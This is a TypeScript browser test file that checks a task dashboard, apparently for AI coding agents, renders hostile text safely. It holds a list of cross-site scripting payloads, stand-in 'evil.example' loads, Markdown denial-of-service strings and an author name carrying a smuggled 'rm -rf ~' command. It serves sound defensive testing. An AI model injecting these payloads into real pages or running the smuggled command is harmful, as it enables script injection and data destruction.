import { describe, expect, it } from "vitest";
import { busyScene, type Scene, sceneTask } from "../../support/page-scenes.ts";
import { detail, type Showing } from "./showing.ts";

const HOSTILE = [
  "<script>window.owned=1;alert(1)</script>",
  "<img src=x onerror=window.owned=1>",
  "<iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
  "<style>@import url(http://evil.example/x.css)</style><base href=http://evil.example/>",
  "![pixel](http://evil.example/pixel.png) ![](data:image/svg+xml,<svg/onload=owned=1>)",
  "[click](javascript:window.owned=1) [data](data:text/html,<script>1</script>) <javascript:owned=1>",
  "<svg><a xlink:href=javascript:owned=1><text>x</text></a></svg> <math><mtext><table><mglyph><style><img src=x onerror=owned=1>",
  '"><form action=http://evil.example><input name=x autofocus onfocus=owned=1>',
  "[a]: http://evil.example 'x\" onmouseover=owned=1'\n[a] http://evil.example/auto",
  "\u202egnp.exe\u0000\u001b[2J a\u200bb\u2028c\u{e0041}",
].join("\n\n");

/** What takes a reader of Markdown minutes, or more elements than a page can have. */
const EXPENSIVE: Readonly<Record<string, string>> = {
  emphases: "*a_".repeat(30_000),
  quotes: ">".repeat(90_000),
  lists: "- ".repeat(40_000),
  cells: `${"|a".repeat(2_000)}|\n${"|-".repeat(2_000)}|\n${"|x\n".repeat(2_000)}`,
};

const SOON_MS = 3_000;

export function hostileText(showing: Showing): void {
  describe("hostile text", () => {
    it("does not act, loads nothing and leads nowhere by itself, wherever it stands", async () => {
      const line = HOSTILE.replaceAll("\n", " ");
      const hostile = sceneTask(line, {
        ...{
          status: "failed",
          sessionKey: "docs",
          reason: line,
          failure: "constructor",
          result: HOSTILE,
          prompt: HOSTILE,
        },
        ...{ warnings: [line], model: line, requestedBy: line, thread: line },
        ...{ verification: { command: line, outcome: line, exitCode: 1, durationMs: 1 }, verificationOutput: HOSTILE },
        changedFiles: [{ path: line, change: "add", by: "other" }],
      });
      const waiting = sceneTask(line, { status: "queued", hold: line });
      const scene: Scene = {
        tasks: [hostile, waiting],
        sessions: [{ ...busyScene().sessions[0], key: line } as Scene["sessions"][number]],
        health: {
          workspace: `/home/${line}`,
          branch: line,
          broken: [line],
          configProblem: line,
          newAuthors: ["a'; rm -rf ~ #@b"],
        },
      };
      const { page, foreign, complaints } = await showing(scene);
      await page.locator("#main li.failed a").click();
      await detail(page).getByRole("region", { name: "Answer" }).waitFor();
      await page.mouse.move(700, 400);
      await page.waitForTimeout(300);
      expect(await page.evaluate("window.owned")).toBeUndefined();
      await page.getByText(`codex-inbox policy allow-author 'a'\\''; rm -rf ~ #@b'`).waitFor();
      expect([foreign, complaints]).toEqual([[], []]);
      const inside = page.locator("#detail, #main, #notices, .side");
      expect(
        await inside
          .locator("img, iframe, script, style, svg, object, embed, form[action], base, link, meta, input[autofocus]")
          .count(),
      ).toBe(0);
      const links = await detail(page)
        .locator(".prose a")
        .evaluateAll((found) =>
          found.map((link) => [link.getAttribute("href"), link.getAttribute("rel"), link.getAttribute("target")]),
        );
      expect(links.length).toBeGreaterThan(0);
      for (const [href, rel, target] of links) {
        if (href === null) continue;
        expect(href).toMatch(/^(https?|mailto):/);
        expect([rel, target]).toEqual(["noopener noreferrer nofollow", "_blank"]);
      }
      expect(await detail(page).getByRole("region", { name: "Answer" }).textContent()).toContain(
        "\\u202egnp.exe\\u0000\\u001b[2J a\\u200bb\\u2028c\\udb40\\udc41",
      );
      await page.getByText("See its log for what happened").first().waitFor();
      expect(await page.evaluate("document.querySelectorAll('*').length")).toBeLessThan(2_000);
    });

    it("is shown soon, and whole, however long it would take to read", async () => {
      const { page } = await showing({ tasks: [sceneTask("One", { status: "succeeded" })], sessions: [] });
      for (const [name, text] of Object.entries(EXPENSIVE)) {
        const [ms, length, elements] = (await page.evaluate(`import("/page/show/markdown.js").then(({ rendered }) => {
          const beganMs = performance.now();
          const shown = rendered(${JSON.stringify(text)});
          return [performance.now() - beganMs, shown.textContent.length, shown.querySelectorAll("*").length];
        })`)) as [number, number, number];
        expect([name, ms < SOON_MS, length > text.trim().length - 10, elements < 10]).toEqual([name, true, true, true]);
      }
    });
  });
}
